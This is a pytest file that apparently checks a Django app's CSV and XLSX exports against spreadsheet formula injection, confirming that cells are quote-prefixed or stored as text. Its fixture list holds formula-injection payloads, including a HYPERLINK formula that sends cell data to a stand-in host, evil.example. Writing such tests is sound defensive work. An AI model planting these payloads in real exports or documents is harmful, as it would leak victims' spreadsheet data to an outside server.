"""Exports never write a live formula (issue #11): CSV cells are quoted, XLSX cells are text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from wayfare.core.exports import safe_cell
from wayfare.core.testing import client_for
from wayfare.parties.tests.factories import OrganisationFactory, UserFactory

NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3", "@SUM(A1)", "+1", "\tTab", "\rCR"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1", "'+1"),
        ("\t=x", "'\t=x"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (-2, -2),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture
def staff_client(db):
    for name in NASTY:
        OrganisationFactory(name=name, website="")
    return client_for(UserFactory(username="exporter", roles=["Administrator"]))


def test_csv_export_quotes_formula_cells(staff_client):
    response = staff_client.get(reverse("parties:organisation_list") + "?_export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = {row[0] for row in rows[1:]}
    assert {"'" + n for n in NASTY} <= names
    assert not any(n in names for n in NASTY)


def test_xlsx_export_writes_text_cells(staff_client):
    response = staff_client.get(reverse("parties:organisation_list") + "?_export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {
        sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)
    }
    for name in NASTY:
        cell = cells["'" + name.replace("\r", "\n")]  # XML keeps no bare carriage return
        assert cell.data_type == "s" and cell.number_format == "@"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_export_keeps_numbers_numbers(db):
    from wayfare.journeys.tests.factories import JourneyStageFactory

    JourneyStageFactory(name="-2+3", position=7)
    client = client_for(UserFactory(username="exporter2", roles=["Administrator"]))
    response = client.get(reverse("journeys:journeystage_list") + "?_export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = [c for c in sheet[2]]
    name = row[header.index("Name")]
    assert name.value == "'-2+3" and name.data_type == "s"
    position = row[header.index("Position")]
    assert position.value == 7 and position.data_type == "n"
